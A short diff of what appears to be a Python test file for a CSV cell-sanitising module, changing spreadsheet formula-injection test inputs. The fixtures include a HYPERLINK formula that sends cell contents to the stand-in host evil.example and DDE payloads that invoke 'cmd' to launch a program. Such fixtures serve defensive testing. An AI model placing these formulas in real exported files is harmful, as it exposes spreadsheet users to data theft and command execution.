@@ -15,7 +15,7 @@ from sro.core import csvcells
 
 SCHOOL = '\t=HYPERLINK("https://evil.example/?"&A1,"Click")'
 FIRST = "-2+3+cmd|' /C calc'!A0"
-BADGE = "@SUM(1+1)*cmd|' /C calc'!A0"
+BADGE = "@SUM(1+1)*cmd"  # within the badge field's 20 characters
 
 
 def _cells(text: str) -> list[str]:
